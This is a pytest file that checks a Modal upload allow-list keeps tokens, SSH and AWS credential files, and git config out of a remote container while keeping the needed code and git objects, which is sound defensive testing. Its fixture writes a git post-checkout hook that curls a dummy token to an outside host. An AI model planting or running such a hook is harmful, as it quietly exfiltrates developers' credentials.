"""What modal_runner.py uploads of the checkout: an allow-list, checked with modal's own code.

The files are listed by the image's own mount entry (modal's directory walker and the
``ignore`` the image was built with) pointed at a temporary repository that holds the
project's tracked files, a git history and the usual secrets. Offline: no token, no network.
"""

from __future__ import annotations

import dataclasses
import shutil
import subprocess
from pathlib import Path

import pytest

modal = pytest.importorskip("modal")
modal_runner = pytest.importorskip("modal_runner")

from runner import git  # noqa: E402

REPO = Path(__file__).resolve().parents[1]
TOKEN = "ghp_SEKRET0123456789abcdef"
REMOTE_URL = f"https://dev:{TOKEN}@github.com/example/gradgrad-attention.git"

# Files that must stay on this machine, each holding the token.
SECRETS = [
    ".env",
    ".modal.toml",
    ".netrc",
    "id_rsa",
    "id_ed25519.pub",
    ".aws/credentials",
    ".git-credentials",
    ".ssh/id_ed25519",
    "secrets/token.txt",
    "kernels/.env",  # inside an uploaded folder
    "runner/id_rsa",
    "harness/deploy.pem",
]
# Git's files that hold remote URLs, run code, or are simply not needed.
GIT_NEVER = [".git/config", ".git/FETCH_HEAD", ".git/hooks", ".git/logs", ".git/description"]
# What the container needs (besides the tracked files under these folders).
NEEDED_DIRS = ("kernels", "harness", "bench_suite", "runner")
NEEDED_FILES = ("asv.conf.json", "modal_runner.py", ".gitignore", ".git/HEAD", ".git/index")


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-C", str(repo), *args], check=True, capture_output=True, text=True
    ).stdout.strip()


@pytest.fixture
def git_env(tmp_path, monkeypatch):
    """git without this machine's global or system config (which could hide a missing one)."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    monkeypatch.delenv("GIT_CONFIG_GLOBAL", raising=False)
    for var in ("GIT_DIR", "GIT_WORK_TREE", "GIT_INDEX_FILE"):
        monkeypatch.delenv(var, raising=False)
    for who in ("AUTHOR", "COMMITTER"):
        monkeypatch.setenv(f"GIT_{who}_NAME", "dev")
        monkeypatch.setenv(f"GIT_{who}_EMAIL", "dev@example.com")


@pytest.fixture
def checkout(tmp_path, git_env):
    """A checkout like a developer's: the project's tracked files in two commits, a remote
    URL with a token in .git/config, a reflog and FETCH_HEAD naming it, a hook, the
    secrets, and the caches and results that are no code."""
    root = tmp_path / "checkout"
    root.mkdir()
    tracked = _git(REPO, "ls-files").splitlines()
    for rel in tracked:
        src = REPO / rel
        if src.is_file():
            (root / rel).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(src, root / rel)
    _git(root, "init", "-q", "-b", "main")
    old = root / "kernels" / "__init__.py"
    final = old.read_text()
    old.write_text(final + "\nOLDER_COMMIT = True\n")
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "older")
    old.write_text(final)
    _git(root, "commit", "-q", "-am", "newer")
    _git(root, "remote", "add", "origin", REMOTE_URL)
    _git(root, "update-ref", "-m", f"clone: from {REMOTE_URL}", "refs/remotes/origin/main", "HEAD")
    _git(root, "pack-refs", "--all")  # refs in packed-refs as well as loose
    _git(root, "tag", "v-test", "HEAD~1")
    (root / ".git" / "FETCH_HEAD").write_text(
        f"{_git(root, 'rev-parse', 'HEAD')}\t\t{REMOTE_URL}\n"
    )
    hook = root / ".git" / "hooks" / "post-checkout"
    hook.write_text(f"#!/bin/sh\ncurl -d {TOKEN} https://example.com\n")
    hook.chmod(0o755)
    for rel in SECRETS:
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(f"token = {TOKEN}\n")
    for rel in (".venv/bin/python", ".asv/env/x", "kernels/__pycache__/a.cpython-312.pyc"):
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(b"\0")
    return root


def _image_mount_dir():
    """The image's add_local_dir entry: modal's walker with the ignore the image was built with."""
    from modal._utils.async_utils import synchronizer

    image = synchronizer._translate_in(modal_runner.image)
    (mount,) = [dep for dep in image._deps() if type(dep).__name__ == "_Mount"]
    (entry,) = mount.entries
    return entry


def uploaded(local_dir: Path) -> set[str]:
    """The paths, relative to the project, that the image would upload from ``local_dir``."""
    entry = dataclasses.replace(_image_mount_dir(), local_dir=local_dir)
    remote = Path(modal_runner.REMOTE_PROJECT)
    return {
        Path(str(dest)).relative_to(remote).as_posix() for _, dest in entry.get_files_to_upload()
    }


def test_the_image_uploads_this_checkout_with_the_allow_list():
    entry = _image_mount_dir()
    assert entry.local_dir == modal_runner.PROJECT_ROOT
    assert str(entry.remote_path) == modal_runner.REMOTE_PROJECT
    assert entry.ignore is modal_runner.project_ignore


def test_no_secret_is_uploaded_and_every_needed_file_is(checkout):
    files = uploaded(checkout)

    for rel in SECRETS + GIT_NEVER:
        assert not any(f == rel or f.startswith(rel + "/") for f in files), rel
    leaking = [f for f in files if TOKEN.encode() in (checkout / f).read_bytes()]
    assert leaking == []
    for top in (".venv", ".asv", "results", "report", "reports", "tests", "docs", "scripts"):
        assert not any(f.startswith(top + "/") for f in files), top
    assert not any("__pycache__" in f or f.endswith(".pyc") for f in files)

    tracked = _git(checkout, "ls-files").splitlines()
    needed = {f for f in tracked if f.split("/")[0] in NEEDED_DIRS} | set(NEEDED_FILES)
    assert needed - files == set()
    objects = {f for f in files if f.startswith(".git/objects/")}
    assert objects and all((checkout / f).is_file() for f in objects)
    assert ".git/packed-refs" in files and ".git/refs/tags/v-test" in files  # a loose ref


def test_modals_matcher_reads_the_patterns_as_meant():
    ignore = modal_runner.project_ignore
    for rel in ("kernels/attention.py", "bench_suite/sub/x.py", ".git/objects/pack/p.pack"):
        assert not ignore(Path(rel)), rel
    for rel in (".git/config", ".git/logs/HEAD", "kernels/.env", "kernels/a/.netrc", ".env"):
        assert ignore(Path(rel)), rel
    for rel in ("kernelsX/a.py", "runner.py", "results/m/a.json", "Makefile", "pyproject.toml"):
        assert ignore(Path(rel)), rel


def test_git_works_in_what_is_uploaded(checkout, tmp_path):
    """The container's copy: HEAD resolves, the index says the code is clean, and an older
    commit checks out into a worktree, all without a .git/config."""
    container = tmp_path / "container" / "project"
    for rel in uploaded(checkout):
        (container / rel).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(checkout / rel, container / rel)
    assert not (container / ".git" / "config").exists()
    final = (container / "kernels" / "__init__.py").read_text()

    head = _git(checkout, "rev-parse", "HEAD")
    older = _git(checkout, "rev-parse", "HEAD~1")
    assert git.resolve_commit("HEAD", container) == head
    assert git.resolve_commits("HEAD~1..HEAD", container) == [head]
    assert git.resolve_commit("v-test", container) == older
    assert git.resolve_commit("origin/main", container) == head
    pyc = container / "harness" / "__pycache__" / "grid.cpython-312.pyc"
    pyc.parent.mkdir()
    pyc.write_bytes(b"\0")  # what importing harness in the container leaves behind
    assert not git.dirty(container, "kernels", "harness", "bench_suite")
    (container / "kernels" / "__init__.py").write_text("# changed in the container\n")
    assert git.dirty(container, "kernels", "harness", "bench_suite")
    (container / "kernels" / "__init__.py").write_text(final)
    with git.worktree(older, container) as wt:
        assert "OLDER_COMMIT = True" in (wt / "kernels" / "__init__.py").read_text()
        assert (wt / "asv.conf.json").is_file() and (wt / "bench_suite").is_dir()
    assert "OLDER_COMMIT" not in (container / "kernels" / "__init__.py").read_text()
    with pytest.raises(subprocess.CalledProcessError):  # nothing there to leak
        _git(container, "config", "--local", "--get", "remote.origin.url")


def test_this_checkout_uploads_no_git_config():
    files = uploaded(modal_runner.PROJECT_ROOT)
    assert ".git/config" not in files and not any(f.startswith(".venv/") for f in files)
    assert {"asv.conf.json", "modal_runner.py", "runner/shards.py"} <= files
